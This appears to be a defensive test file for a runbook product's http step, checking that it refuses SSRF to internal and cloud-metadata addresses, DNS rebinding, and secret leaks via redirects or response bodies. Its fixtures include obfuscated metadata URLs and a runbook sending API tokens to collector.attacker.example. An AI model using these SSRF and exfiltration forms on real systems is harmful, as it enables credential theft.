// Attacks a runbook editor could try through an http step, each refused: reading the product's own
// credentials, reaching internal addresses (directly or by a name that resolves to one), sending secret
// headers along a redirect, and getting a response body (which may echo a secret) onto the timeline.
import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import { basename, join } from 'node:path';
import { after, describe, it } from 'node:test';
import { ApplicationFailure } from '@temporalio/common';
import { createHttpActivities } from '../activities/http.js';
import type { Resolve } from '../integrations/http/guarded-lookup.js';
import {
  HttpRequestRefused,
  HttpRequestUnanswered,
  performHttpRequest,
  type HttpRequestSpec,
} from '../integrations/http/request.js';
import { loadRunbookLibrary } from '../runbooks/library.js';
import { actionFor } from '../workflows/incident/step-actions.js';
import { tempDir } from './support/paths.js';

const SECRET = 'rb-secret-5e4d3c2b1a';

interface Service {
  url: string;
  port: number;
  received: { method: string; path: string; headers: IncomingHttpHeaders }[];
  close(): Promise<void>;
}

/** A service on 127.0.0.1 that records every request and answers as `reply` says. */
async function startService(
  reply: (path: string) => { status: number; headers?: Record<string, string>; body?: string } = () => ({
    status: 200,
    body: 'ok',
  }),
): Promise<Service> {
  const received: Service['received'] = [];
  const server = createServer((req, res) => {
    received.push({ method: req.method ?? '', path: req.url ?? '', headers: req.headers });
    const { status, headers = {}, body } = reply(req.url ?? '');
    res.writeHead(status, headers).end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    port,
    received,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

const get = (url: string, more: Partial<HttpRequestSpec> = {}): HttpRequestSpec => ({
  method: 'GET',
  url,
  headers: {},
  ...more,
});

/** A resolver standing in for DNS: each name to the address given, and a count of look-ups. */
function fakeDns(names: Record<string, string>): { resolve: Resolve; lookups: string[] } {
  const lookups: string[] = [];
  const resolve: Resolve = (hostname, _options, callback) => {
    lookups.push(hostname);
    const address = names[hostname];
    if (address === undefined) return callback(Object.assign(new Error('not found'), { code: 'ENOTFOUND' }), []);
    callback(null, [{ address, family: address.includes(':') ? 6 : 4 }]);
  };
  return { resolve, lookups };
}

describe('http step safety', () => {
  const services: Service[] = [];
  const service = async (...args: Parameters<typeof startService>) => {
    const started = await startService(...args);
    services.push(started);
    return started;
  };
  after(() => Promise.all(services.map((s) => s.close())));

  describe('${env:NAME}', () => {
    it("refuses the product's own credentials, names the variable and the rule, and sends nothing", async () => {
      const target = await service();
      const env = {
        API_TOKEN: SECRET,
        SLACK_BOT_TOKEN: SECRET,
        GITHUB_TOKEN: SECRET,
        TEMPORAL_API_KEY: SECRET,
        RUNBOOK_SECRET_URL: target.url,
      };
      for (const name of ['API_TOKEN', 'SLACK_BOT_TOKEN', 'GITHUB_TOKEN', 'TEMPORAL_API_KEY']) {
        await assert.rejects(
          performHttpRequest(
            get('${env:RUNBOOK_SECRET_URL}/x', {
              headers: { authorization: `Bearer \${env:${name}}` },
              allowedHosts: ['127.0.0.1'],
            }),
            { env },
          ),
          (err: unknown) =>
            err instanceof HttpRequestRefused &&
            err.message ===
              `\${env:${name}} is not allowed: runbooks may read only the environment variables RUNBOOK_ENV_ALLOW allows (RUNBOOK_SECRET_*)`,
        );
      }
      await assert.rejects(
        performHttpRequest(get(`${target.url}/?key=\${env:API_TOKEN}`, { allowedHosts: ['127.0.0.1'] }), { env }),
        HttpRequestRefused,
        'in the URL too',
      );
      assert.deepEqual(target.received, []);
    });

    it('fills in RUNBOOK_SECRET_* by default, and exactly what RUNBOOK_ENV_ALLOW lists once set', async () => {
      const target = await service();
      const request = (name: string) =>
        get(`${target.url}/`, { headers: { 'x-key': `\${env:${name}}` }, allowedHosts: ['127.0.0.1'] });
      const env = { RUNBOOK_SECRET_KEY: SECRET, GUARDRAIL_KEY: SECRET };
      assert.equal((await performHttpRequest(request('RUNBOOK_SECRET_KEY'), { env })).status, 200);
      await assert.rejects(performHttpRequest(request('GUARDRAIL_KEY'), { env }), HttpRequestRefused);

      const allowList = { ...env, RUNBOOK_ENV_ALLOW: 'GUARDRAIL_KEY, OTHER_*' };
      assert.equal((await performHttpRequest(request('GUARDRAIL_KEY'), { env: allowList })).status, 200);
      await assert.rejects(
        performHttpRequest(request('RUNBOOK_SECRET_KEY'), { env: allowList }),
        /RUNBOOK_ENV_ALLOW allows \(GUARDRAIL_KEY, OTHER_\*\)/,
        'the list replaces the default',
      );
      assert.deepEqual(
        target.received.map((r) => r.headers['x-key']),
        [SECRET, SECRET],
      );
    });
  });

  describe('addresses', () => {
    it('refuses loopback, link-local, private, unspecified and cloud metadata addresses, however written', async () => {
      const cases: [url: string, kind: string][] = [
        ['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'cloud metadata'],
        ['http://2852039166/latest/meta-data/', 'cloud metadata'], // 169.254.169.254 as one number
        ['http://[::ffff:169.254.169.254]/', 'cloud metadata'],
        ['http://[fd00:ec2::254]/', 'cloud metadata'],
        ['http://100.100.100.200/', 'cloud metadata'],
        ['http://169.254.10.1/', 'link-local'],
        ['http://[fe80::1]/', 'link-local'],
        ['http://127.0.0.1/', 'loopback'],
        ['http://0x7f.1/', 'loopback'],
        ['http://[::1]/', 'loopback'],
        ['http://0.0.0.0/', 'unspecified'],
        ['http://10.1.2.3/', 'private'],
        ['http://172.16.0.1/', 'private'],
        ['http://192.168.0.1/', 'private'],
        ['http://[fc00::1]/', 'private'],
      ];
      for (const [url, kind] of cases) {
        await assert.rejects(
          performHttpRequest(get(url), { timeoutMs: 1_000 }),
          (err: unknown) => err instanceof HttpRequestRefused && err.message.includes(`is a ${kind} address`),
          url,
        );
      }
    });

    it('reaches an internal address only when the runbook lists it; a range never unlocks a metadata address', async () => {
      const target = await service();
      await assert.rejects(performHttpRequest(get(`${target.url}/`)), /127\.0\.0\.1 is a loopback address/);
      assert.equal(target.received.length, 0);
      assert.equal((await performHttpRequest(get(`${target.url}/`, { allowedHosts: ['127.0.0.0/8'] }))).status, 200);
      assert.equal(target.received.length, 1);
      await assert.rejects(
        performHttpRequest(get('http://169.254.169.254/', { allowedHosts: ['169.254.0.0/16'] })),
        /169\.254\.169\.254 is a cloud metadata address; an http step reaches it only if its runbook lists this very address/,
      );
    });

    it('checks the address a name resolves to when connecting: a name resolving to 169.254.169.254 is refused', async () => {
      const dns = fakeDns({ 'metadata.attacker.example': '169.254.169.254' });
      await assert.rejects(
        performHttpRequest(get('http://metadata.attacker.example/latest/meta-data/'), { resolve: dns.resolve }),
        (err: unknown) =>
          err instanceof HttpRequestRefused && /169\.254\.169\.254 is a cloud metadata address/.test(err.message),
      );
      assert.deepEqual(dns.lookups, ['metadata.attacker.example']);
    });

    it('does not let a listed name unlock the internal address it resolves to (DNS rebinding)', async () => {
      const target = await service();
      const dns = fakeDns({ 'guardrail.example': '127.0.0.1' });
      const url = `http://guardrail.example:${target.port}/strict-mode`;
      await assert.rejects(
        performHttpRequest(get(url, { allowedHosts: ['guardrail.example'] }), { resolve: dns.resolve }),
        /127\.0\.0\.1 is a loopback address/,
      );
      await assert.rejects(
        performHttpRequest(get(`http://localhost:${target.port}/`, { allowedHosts: ['localhost'] })),
        /is a loopback address/,
        'the real resolver is guarded too',
      );
      assert.equal(target.received.length, 0);

      // Listing the address too lets it through: the guarded connection is the one that reaches the service.
      const allowed = { allowedHosts: ['guardrail.example', '127.0.0.1'] };
      assert.equal((await performHttpRequest(get(url, allowed), { resolve: dns.resolve })).status, 200);
      assert.equal(target.received[0]?.headers.host, `guardrail.example:${target.port}`);
    });

    it('refuses a host the runbook does not list before looking it up, without naming a host from the environment', async () => {
      const dns = fakeDns({ 'exfil.attacker.example': '203.0.113.7' });
      const allowedHosts = ['api.guardrail.example', '*.corp.example'];
      await assert.rejects(
        performHttpRequest(get('https://exfil.attacker.example/', { allowedHosts }), { resolve: dns.resolve }),
        /^HttpRequestRefused: host exfil\.attacker\.example is not in the runbook's http\.allowedHosts \(api\.guardrail\.example, \*\.corp\.example\)$/,
      );
      await assert.rejects(
        performHttpRequest(get('${env:RUNBOOK_SECRET_HOST}/', { allowedHosts }), {
          env: { RUNBOOK_SECRET_HOST: `https://${SECRET}.attacker.example` },
          resolve: dns.resolve,
        }),
        (err: unknown) =>
          err instanceof HttpRequestRefused &&
          err.message.startsWith('the host of ${env:RUNBOOK_SECRET_HOST}/ is not in') &&
          !err.message.includes(SECRET),
      );
      assert.deepEqual(dns.lookups, [], 'no DNS query carries the host out');
      await assert.rejects(
        performHttpRequest(get('http://${env:RUNBOOK_SECRET_PIN}/'), { env: { RUNBOOK_SECRET_PIN: '2852039166' } }),
        (err: unknown) =>
          err instanceof HttpRequestRefused &&
          err.message.startsWith('http://${env:RUNBOOK_SECRET_PIN}/: its host is a cloud metadata address') &&
          !err.message.includes('169.254'),
        'nor the address a secret spells',
      );
    });

    it('reports a failed connection without the values filled in', async () => {
      const closed = await service();
      await closed.close();
      services.splice(services.indexOf(closed), 1);
      await assert.rejects(
        performHttpRequest(
          get('${env:RUNBOOK_SECRET_URL}?token=${env:RUNBOOK_SECRET_KEY}', { allowedHosts: ['127.0.0.1'] }),
          {
            env: { RUNBOOK_SECRET_URL: closed.url, RUNBOOK_SECRET_KEY: SECRET },
          },
        ),
        (err: unknown) =>
          err instanceof HttpRequestUnanswered && err.message === 'GET ${env:RUNBOOK_SECRET_URL}: ECONNREFUSED',
      );
    });
  });

  describe('redirects and responses', () => {
    it('does not follow a redirect to another origin, so the secret header never reaches it', async () => {
      const elsewhere = await service();
      const redirecting = await service(() => ({
        status: 302,
        headers: { location: `http://localhost:${elsewhere.port}/collect` },
      }));
      const env = { RUNBOOK_SECRET_URL: redirecting.url, RUNBOOK_SECRET_KEY: SECRET };
      const request: HttpRequestSpec = {
        method: 'POST',
        url: '${env:RUNBOOK_SECRET_URL}/block',
        headers: { 'x-api-key': '${env:RUNBOOK_SECRET_KEY}' },
        allowedHosts: ['127.0.0.1', 'localhost', '::1'],
      };
      const { httpAction, httpCheck } = createHttpActivities({ env });
      await assert.rejects(
        httpAction({ request }),
        (err: unknown) =>
          err instanceof ApplicationFailure &&
          err.nonRetryable &&
          err.message ===
            'POST ${env:RUNBOOK_SECRET_URL}/block answered 302, a redirect, which http steps do not follow',
      );
      assert.deepEqual(await httpCheck({ request, expectStatus: 200 }), { ok: false, status: 302 });
      assert.deepEqual(await httpCheck({ request, expectStatus: 302 }), { ok: true, status: 302 }, 'per expectStatus');

      assert.equal(redirecting.received.length, 3);
      assert.equal(redirecting.received[0]?.headers['x-api-key'], SECRET, 'the step did call the first origin');
      assert.deepEqual(elsewhere.received, [], 'nothing, and so no secret, reached the other origin');
    });

    it('keeps response bodies, which may echo a secret, out of what the workflow records', async () => {
      const echoing = await service((path) => ({
        status: path === '/fails' ? 500 : path === '/refuses' ? 403 : 200,
        body: JSON.stringify({ debug: { authorization: `Bearer ${SECRET}` } }),
      }));
      const { httpAction, httpCheck } = createHttpActivities();
      const at = (path: string) => get(`${echoing.url}${path}`, { allowedHosts: ['127.0.0.1'] });
      for (const [path, retryable] of [
        ['/fails', true],
        ['/refuses', false],
      ] as const) {
        await assert.rejects(httpAction({ request: at(path) }), (err: unknown) => {
          assert.ok(err instanceof ApplicationFailure);
          assert.equal(err.nonRetryable, !retryable);
          assert.equal(err.message, `GET ${echoing.url}${path} answered ${path === '/fails' ? 500 : 403}`);
          return true;
        });
      }
      const recorded = JSON.stringify([
        await httpAction({ request: at('/ok') }),
        await httpCheck({ request: at('/ok'), expectStatus: 200, expectBodyIncludes: SECRET }),
      ]);
      assert.equal(recorded, '[{"status":200},{"ok":true,"status":200}]', 'the body was read, and not returned');
    });
  });

  describe('at load time', () => {
    const runbook = (id: string, more: string) =>
      `id: ${id}\ntitle: ${id}\ndescription: Tries what an http step may not do.\n${more}`;

    it('reports a refused ${env:NAME} and an unlisted or internal literal host, with file and path', async () => {
      const dir = await tempDir('http-runbooks');
      await writeFile(
        join(dir, 'steals.yaml'),
        runbook(
          'steals',
          `http: { allowedHosts: [api.guardrail.example, 10.0.0.0/8] }
containment:
  - id: exfiltrate
    kind: http
    title: Send the API token out
    request: { url: "https://collector.attacker.example/?t=\${env:TEMPORAL_API_KEY}", headers: { authorization: "Bearer \${env:API_TOKEN}" } }
    verify: { request: { method: GET, url: "http://169.254.169.254/latest/meta-data/" } }
    undo: { request: { url: "https://api.guardrail.example/undo", headers: { x-key: "\${env:RUNBOOK_SECRET_KEY}" } } }
  - id: internal
    kind: http
    title: A listed range
    request: { url: "http://10.1.2.3/strict-mode" }
`,
        ),
      );
      await writeFile(
        join(dir, 'no-list.yaml'),
        runbook(
          'no-list',
          `containment:
  - { id: local, kind: http, title: Loopback, request: { url: "http://[::1]:8080/x" } }
`,
        ),
      );
      const { problems } = await loadRunbookLibrary(dir, {});
      const rule = 'runbooks may read only the environment variables RUNBOOK_ENV_ALLOW allows (RUNBOOK_SECRET_*)';
      assert.deepEqual(
        problems.map((p) => [basename(p.file), p.path, p.message]),
        [
          [
            'no-list.yaml',
            'containment[0].request.url',
            '::1 is a loopback address; an http step reaches it only if its runbook lists it (or its range) in http.allowedHosts',
          ],
          ['steals.yaml', 'containment[0].request.url', `\${env:TEMPORAL_API_KEY} is not allowed: ${rule}`],
          ['steals.yaml', 'containment[0].request.headers.authorization', `\${env:API_TOKEN} is not allowed: ${rule}`],
          [
            'steals.yaml',
            'containment[0].request.url',
            'host collector.attacker.example is not in http.allowedHosts (api.guardrail.example, 10.0.0.0/8)',
          ],
          [
            'steals.yaml',
            'containment[0].verify.request.url',
            'host 169.254.169.254 is not in http.allowedHosts (api.guardrail.example, 10.0.0.0/8)',
          ],
        ],
      );

      const allowingApiToken = await loadRunbookLibrary(dir, { RUNBOOK_ENV_ALLOW: 'API_TOKEN' });
      assert.ok(
        allowingApiToken.problems.some((p) => p.message.startsWith('${env:RUNBOOK_SECRET_KEY} is not allowed')),
        'RUNBOOK_ENV_ALLOW replaces the default rule',
      );
      assert.ok(!allowingApiToken.problems.some((p) => p.message.startsWith('${env:API_TOKEN}')));
    });

    it('hands the allowed hosts to the worker with every request of a step, the default read-back and the undo included', async () => {
      const dir = await tempDir('http-runbooks');
      await writeFile(
        join(dir, 'listed.yaml'),
        runbook(
          'listed',
          `fallback: true
http: { allowedHosts: [127.0.0.1] }
containment:
  - id: strict
    kind: http
    title: Strict mode
    request: { url: "http://127.0.0.1:8080/strict-mode" }
    verify: { expectStatus: 200 }
    undo: { request: { method: DELETE, url: "http://127.0.0.1:8080/strict-mode" } }
`,
        ),
      );
      const { problems, runbooks } = await loadRunbookLibrary(dir, {});
      assert.deepEqual(problems, []);
      const action = actionFor(runbooks[0]!.runbook.containment[0]!);
      assert.equal(action.type, 'http');
      assert.deepEqual(
        action.type === 'http' && [action.request, action.verify?.request, action.undo].map((r) => r?.allowedHosts),
        [['127.0.0.1'], ['127.0.0.1'], ['127.0.0.1']],
      );
    });

    it('refuses an allowedHosts entry that is no host, address or range', async () => {
      const dir = await tempDir('http-runbooks');
      await writeFile(
        join(dir, 'entry.yaml'),
        runbook('entry', 'fallback: true\nhttp: { allowedHosts: ["https://api.example.com/", 10.0.0.0/33] }\n'),
      );
      const { problems } = await loadRunbookLibrary(dir, {});
      assert.deepEqual(
        problems.map((p) => [p.path, p.message]),
        [
          [
            'http.allowedHosts[0]',
            '"https://api.example.com/" must be a host name (or *.domain), an IP address or a CIDR range',
          ],
          ['http.allowedHosts[1]', '"10.0.0.0/33" must be a CIDR range such as 10.0.0.0/8 or fd00::/8'],
        ],
      );
    });
  });
});
